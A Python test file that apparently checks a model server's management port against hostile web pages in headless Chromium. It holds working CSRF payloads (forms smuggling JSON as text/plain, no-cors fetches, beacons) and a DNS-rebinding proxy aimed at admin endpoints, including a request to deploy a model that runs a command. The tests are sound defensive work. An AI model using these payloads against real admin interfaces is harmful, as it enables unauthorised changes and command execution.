"""Pages of strangers in a real browser against the management port.

Chromium runs without a driver: a page does its harm by itself and says when it is done.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from harness import Server, post, server, until
from secured import APPLICATION, ask, self_signed, tls_section

CHROMIUM = os.environ.get("CLIPPER_TEST_CHROMIUM") or next(
    (found for name in ("chromium-headless-shell", "chromium") if (found := shutil.which(name))),
    "chromium-headless-shell",
)

TARGETS = [
    ("delete_app", '{"name":"digits"}'),
    ("add_app", json.dumps({
        "name": "evil", "input_type": "doubles", "default_output": "0", "latency_slo_micros": 1000,
    })),
    ("deploy_model", json.dumps({
        "model_name": "evil", "model_version": "1", "input_type": "doubles", "app_name": "digits",
        "runtime": {"runtime": "command", "command": ["touch", "EVIL"]},
    })),
]  # fmt: skip

# A form can send JSON where its type is text/plain: the one field's name is all but its end.
FORMS = """
<script>
const targets = TARGETS, at = "MANAGEMENT";
const kinds = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
let open = 0;
for (const [operation, body] of targets) for (const kind of kinds) {
  const name = operation + kind;
  const frame = document.body ? null : document.documentElement;
  open += 1;
  addEventListener("DOMContentLoaded", () => {
    const target = document.createElement("iframe");
    target.name = name;
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: at + "/admin/" + operation, target: name});
    form.enctype = kind;
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ',"ignored":"';
    field.value = '"}';
    form.append(field);
    document.body.append(target, form);
    // The frame's own first load comes before the answer's.
    let loads = 0;
    target.onload = () => { if (++loads == 2 || loads == 1 && target.src) done(); };
    form.submit();
  });
}
let ended = 0;
function done() { ended += 1; }
setTimeout(() => fetch("/report", {method: "POST", body: JSON.stringify({ended})}), 4000);
</script><body></body>
"""

FETCHES = """
<script>
const targets = TARGETS, at = "MANAGEMENT", told = [];
async function attempt(what, url, options) {
  try {
    const answer = await fetch(url, options);
    const text = answer.type == "opaque" ? "" : await answer.text();
    told.push([what, answer.type, answer.status, text.slice(0, 200)]);
  } catch (error) {
    told.push([what, "error", 0, String(error)]);
  }
}
(async () => {
  for (const [operation, body] of targets) {
    const url = at + "/admin/" + operation;
    const kinds = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
    for (const kind of kinds) for (const mode of ["no-cors", "cors"]) {
      const headers = {"Content-Type": kind};
      await attempt(mode + " " + kind, url, {method: "POST", mode, headers, body});
    }
    await attempt("no type", url, {method: "POST", mode: "no-cors", body: new Blob([body])});
    navigator.sendBeacon(url, new Blob([body], {type: "text/plain"}));
    navigator.sendBeacon(url, body);
    const request = new XMLHttpRequest();
    try { request.open("POST", url, false); request.send(body); } catch (error) {}
  }
  for (const path of ["/admin/get_all_applications", "/admin/keys/list", "/metrics"]) {
    await attempt("read " + path, at + path, {});
    await attempt("ask " + path, at + path, {method: "POST", body: "{}"});
  }
  await fetch(REPORT, {method: "POST", body: JSON.stringify(told)});
})();
</script>
"""


class Stranger(ThreadingHTTPServer):
    """A stranger's site. To a browser it may also be the proxy, which stands for a name server that
    changes its mind: it answers for the page's name first, and later leads it to somebody else."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.port = self.server_address[1]
        self.pages: dict[str, str] = {}
        self.reports: list[str] = []
        self.leads_to: tuple[str, int] | None = None
        self.led = 0


class Visit(BaseHTTPRequestHandler):
    server: Stranger
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:  # noqa: N802
        page = self.server.pages.get(urlsplit(self.path).path)
        if page is None:
            self.lead()
        else:
            self.tell(200, page.encode())

    def do_POST(self) -> None:  # noqa: N802
        if urlsplit(self.path).path == "/report":
            body = self.rfile.read(int(self.headers["Content-Length"]))
            self.server.reports.append(body.decode())
            self.tell(200, b"")
        else:
            self.lead()

    do_OPTIONS = do_POST  # noqa: N815

    def lead(self) -> None:
        """To where the name leads now, with the name that the browser has for it."""
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        at = urlsplit(self.path)
        if self.server.leads_to is None or not at.netloc:
            self.tell(404, b"")
            return
        self.server.led += 1
        connection = http.client.HTTPConnection(*self.server.leads_to, timeout=60)
        headers = {name: value for name, value in self.headers.items() if name != "Connection"}
        connection.request(self.command, at.path, body, headers)
        answer = connection.getresponse()
        self.tell(answer.status, answer.read(), answer.getheader("Content-Type"))

    def tell(self, status: int, body: bytes, kind: str | None = "text/html") -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind or "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    site = Stranger()
    threading.Thread(target=site.serve_forever, daemon=True).start()
    yield site
    site.shutdown()


@contextmanager
def browser(folder: Path, url: str, *flags: str) -> Iterator[None]:
    """A browser that looks at a page."""
    own = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
    own += ["--no-first-run", "--disable-background-networking", "--remote-debugging-port=0"]
    own += [f"--user-data-dir={folder}/browser"]
    said = (folder / "browser.log").open("w")
    running = subprocess.Popen([CHROMIUM, *own, *flags, url], stdout=said, stderr=said)
    try:
        yield
    finally:
        running.kill()
        running.wait()
        said.close()


@contextmanager
def managed(folder: Path) -> Iterator[Server]:
    with server(folder, APPLICATION) as served:
        yield served


def state(served: Server) -> list[object]:
    """All that a stranger could have changed."""
    operations = ["get_all_applications", "get_all_models", "get_all_containers"]
    asked = [post(f"{served.management}/admin/{one}", {"verbose": True}) for one in operations]
    _, text = ask(f"{served.metrics}/metrics")
    events = [line for line in text.splitlines() if line.startswith("clipper_journal_")]
    appended = [line for line in events if "events" in line or "seq" in line]
    return [*asked, appended]


def refused(served: Server) -> float:
    """Requests that the management frontend has refused."""
    _, text = ask(f"{served.metrics}/metrics")
    sample = 'clipper_http_errors_total{frontend="management"'
    return sum(float(line.split()[-1]) for line in text.splitlines() if line.startswith(sample))


def written(page: str, management: str, report: str = "/report") -> str:
    return (
        page.replace("TARGETS", json.dumps(TARGETS))
        .replace("MANAGEMENT", management)
        .replace("REPORT", json.dumps(report))
    )


def test_forms_of_another_site_change_nothing(tmp_path: Path, stranger: Stranger) -> None:
    with managed(tmp_path) as served:
        before, no = state(served), refused(served)
        stranger.pages["/"] = written(FORMS, served.management)
        with browser(tmp_path, f"http://127.0.0.1:{stranger.port}/"):
            until("the page is done", lambda: stranger.reports)
            # All of them have come, and none has been followed.
            until("all are refused", lambda: refused(served) >= no + 9)
        assert state(served) == before
        assert not (tmp_path / "EVIL").exists()


@pytest.mark.parametrize("name", ["127.0.0.1", "evil.example"])
def test_scripts_of_another_site_change_and_read_nothing(
    tmp_path: Path, stranger: Stranger, name: str
) -> None:
    with managed(tmp_path) as served:
        before, no = state(served), refused(served)
        port = urlsplit(served.management).port
        # The stranger's name leads to the server itself, on its port.
        stranger.pages["/"] = written(FETCHES, f"http://{name}:{port}")
        rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
        with browser(tmp_path, f"http://evil.example:{stranger.port}/", rules):
            until("the page is done", lambda: stranger.reports)
        told = json.loads(stranger.reports[0])
        assert len(told) == 3 * 7 + 6, told
        for what, kind, status, text in told:
            # Either it may not see the answer, or there was none.
            assert kind in ("opaque", "error") and status == 0, (what, kind, status, text)
        assert refused(served) > no
        assert state(served) == before
        assert not (tmp_path / "EVIL").exists()


def test_a_name_that_is_led_to_the_server_later_changes_and_reads_nothing(
    tmp_path: Path, stranger: Stranger
) -> None:
    with managed(tmp_path) as served:
        before, no = state(served), refused(served)
        at = urlsplit(served.management)
        assert at.hostname and at.port
        # To the browser page and server are one site: it asks nobody and sends any type.
        site = f"http://evil.example:{at.port}"
        stranger.pages["/"] = written(FETCHES, site, f"{site}/report")
        stranger.leads_to = (at.hostname, at.port)
        proxy = f"--proxy-server=127.0.0.1:{stranger.port}"
        with browser(tmp_path, f"{site}/", proxy, "--proxy-bypass-list=<-loopback>"):
            until("the page is done", lambda: stranger.reports)
        told = json.loads(stranger.reports[0])
        assert len(told) == 3 * 7 + 6 and stranger.led >= len(told), (stranger.led, told)
        for what, _, status, text in told:
            # A change by JSON as well: the server is not called that.
            assert status in (403, 0), (what, status, text)
            assert "digits" not in text, (what, text)
        assert any("management.hosts" in text for *_, text in told), told
        assert refused(served) >= no + 3 * 4
        assert state(served) == before
        assert not (tmp_path / "EVIL").exists()


def test_a_browser_speaks_http_2_to_it(tmp_path: Path) -> None:
    pair = self_signed(tmp_path / "made")
    with server(tmp_path, APPLICATION + tls_section(pair)) as served:
        command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"]
        command += [f"--user-data-dir={tmp_path}/browser", "--ignore-certificate-errors"]
        command += [f"--log-net-log={tmp_path}/net.json", f"{served.query}/livez"]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done
        assert "HTTP2_SESSION" in (tmp_path / "net.json").read_text()
